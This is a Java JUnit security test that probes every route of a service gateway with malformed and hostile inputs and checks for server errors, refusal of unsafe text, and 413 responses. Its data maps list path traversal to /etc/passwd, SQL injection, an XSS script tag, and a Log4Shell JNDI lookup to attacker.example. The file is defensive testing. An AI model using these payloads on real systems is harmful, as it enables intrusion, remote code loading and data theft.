package io.lazi.securitytests;

import java.net.http.HttpRequest.BodyPublishers;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;

/**
 * Bad input on every route that takes input, at the gateway and at the owning service's port: hostile
 * path variables and query parameters on every route, hostile JSON bodies on every write route. A
 * server error is a breach; NUL and unpaired surrogates must be refused, never stored; an oversized
 * body answers 413.
 */
class BadInputProbesTests extends SecurityTest {

	/** Encoded hostile values for path variables and query parameters, and whether they must be refused. */
	private static final Map<String, Boolean> VALUES = Map.ofEntries(Map.entry("a%00b", true),
			Map.entry("%ED%A0%80", true), Map.entry("%EF%BF%BF", true), Map.entry("a%01b", true),
			Map.entry("-1", false), Map.entry("0", false), Map.entry("99999999999999999999999", false),
			Map.entry("1e309", false), Map.entry("abc", false), Map.entry("..%2F..%2Fetc%2Fpasswd", false),
			Map.entry("%27%20OR%20%271%27%3D%271", false), Map.entry("%3Cscript%3Ealert(1)%3C%2Fscript%3E", false),
			Map.entry("%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D", false), Map.entry("x".repeat(5000), false));

	/** Query parameters the services read somewhere; unknown ones are ignored by a route, which is fine. */
	private static final List<String> PARAMETERS = List.of("search", "q", "page", "size", "path", "active", "since",
			"lastEventId", "status", "pipeline", "stage");

	/** Hostile JSON bodies and whether they must be refused (4xx) rather than merely not crash. */
	private static final Map<String, Boolean> BODIES = Map.ofEntries(
			Map.entry("{\"name\":\"a\\u0000b\",\"displayName\":\"a\\u0000b\",\"reason\":\"a\\u0000b\"}", true),
			Map.entry("{\"name\":\"\\ud800\",\"displayName\":\"\\udfff\",\"reason\":\"\\ud800\"}", true),
			Map.entry("{\"name\":123,\"position\":\"first\",\"parentId\":\"x\",\"active\":\"maybe\"}", false),
			Map.entry("[]", false), Map.entry("\"text\"", false), Map.entry("null", false), Map.entry("{", false),
			Map.entry("{\"name\":\"" + "x".repeat(100_000) + "\"}", false),
			Map.entry("[".repeat(5_000) + "]".repeat(5_000), false),
			Map.entry("{\"name\":\"' OR '1'='1\",\"imageUploadId\":\"../../etc/passwd\"}", false),
			Map.entry("{\"imageUploadId\":\"00000000-0000-0000-0000-000000000000\"}", false));

	@Test
	void neverFailsWithAServerErrorAndRefusesUnsafeText() {

		var probes = new Probes(Category.BAD_INPUT);
		var admin = as("ADMIN", TENANT);
		for (var route : routes()) {
			if (route.internal() || route.pattern().equals("/ws")) {
				continue;
			}
			for (var base : bases(route).entrySet()) {
				for (var value : VALUES.entrySet()) {
					if (!route.variables().isEmpty() || route.pattern().contains("**")) {
						var reply = Http.send(route.method(), base.getValue().apply(route.path(value.getKey())), json(admin), body(route));
						check(probes, reply, value.getValue(), base.getKey() + " " + route + " path " + value.getKey());
					}
					if (!route.writes()) {
						var query = String.join("&", PARAMETERS.stream().map(name -> name + "=" + value.getKey()).toList());
						var reply = Http.get(base.getValue().apply(route.path("1")) + "?" + query, admin);
						check(probes, reply, value.getValue(), base.getKey() + " " + route + " query " + value.getKey());
					}
				}
				if (route.writes()) {
					for (var body : BODIES.entrySet()) {
						var reply = Http.send(route.method(), base.getValue().apply(route.path("1")), json(admin),
								BodyPublishers.ofString(body.getKey()));
						check(probes, reply, body.getValue(), base.getKey() + " " + route + " body "
								+ (body.getKey().length() > 60 ? body.getKey().substring(0, 60) + "…" : body.getKey()));
					}
					var oversized = Http.send(route.method(), base.getValue().apply(route.path("1")), json(admin),
							BodyPublishers.ofString("{\"name\":\"" + "x".repeat(2_000_000) + "\"}"));
					probes.expectStatus(oversized, base.getKey() + " " + route + " 2 MB JSON body", 413);
				}
			}
		}
		probes.report();
	}

	/** What an unsafe value looks like once stored and answered: as sent, escaped, or replaced. */
	private static final List<String> STORED_UNSAFE = List.of("\u0000", "\\u0000", "\\ud800", "\\udfff", "\ufffd",
			"\"?\"");

	/**
	 * A probe that must be refused holds when refused, or when the route did not take the value at all (an
	 * endpoint that reads no body): its answer shows nothing of it. Any probe holds only without a 5xx.
	 */
	private static void check(Probes probes, Http.Reply reply, boolean mustRefuse, String probe) {

		if (mustRefuse && reply.status() < 400) {
			var stored = STORED_UNSAFE.stream().filter(reply.body()::contains).findFirst();
			probes.check(stored.isEmpty(), probe, stored.map(found -> "answered the unsafe text: " + reply.summary())
				.orElse(reply.summary()));
		}
		else if (mustRefuse) {
			probes.expectRefused(reply, probe);
		}
		else {
			probes.expectNoServerError(reply, probe);
		}
	}

	private static java.net.http.HttpRequest.BodyPublisher body(Route route) {
		return route.writes() ? BodyPublishers.ofString("{}") : BodyPublishers.noBody();
	}

}
